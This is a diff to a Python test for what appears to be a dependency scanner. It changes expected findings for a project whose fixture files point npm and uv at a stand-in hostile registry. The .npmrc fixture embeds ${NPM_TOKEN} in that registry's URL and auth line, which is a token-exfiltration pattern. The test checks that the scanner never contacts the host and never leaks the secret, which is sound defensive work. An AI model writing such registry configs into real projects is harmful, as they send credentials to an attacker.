@@ -344,15 +344,14 @@ def test_a_project_decides_neither_whom_to_ask_nor_what_is_sent(
         host = evil.url.removeprefix("http:")
         files = {
             ".npmrc": f"registry={evil.url}/${{NPM_TOKEN}}/\n{host}/:_authToken=${{NPM_TOKEN}}\n",
-            "pyproject.toml": '[[tool.uv.index]]\nname = "corp"\ndefault = true\n'
-            f'url = "{evil.url}/simple"\n',
+            "pyproject.toml": f'[[tool.uv.index]]\nname = "corp"\nurl = "{evil.url}/simple"\n',
             "a.sh": "pip install ghost-1\nnpm install ghost-2\n",
         }
         folder = write_tree(tmp_path / "p", files)
         report = scan_files([folder], ScanSettings(universe=(str(universe),)))
         assert evil.asked == []
     assert sorted(registry.paths()) == ["/ghost-2", "/simple/ghost-1/"]
-    # Its own index may have them, so they are open, and nothing is clean.
-    assert [one.rule for one in report.findings] == ["unverified", "unverified"]
-    assert "which only the project names" in report.findings[0].why
+    # What stands beside the public index may have them, so they are open, and nothing is clean.
+    assert [one.rule for one in report.findings] == ["unverified", "ghost"]
+    assert all("which only the project names" in one.why for one in report.findings)
     assert "s3cr3t" not in str(report)
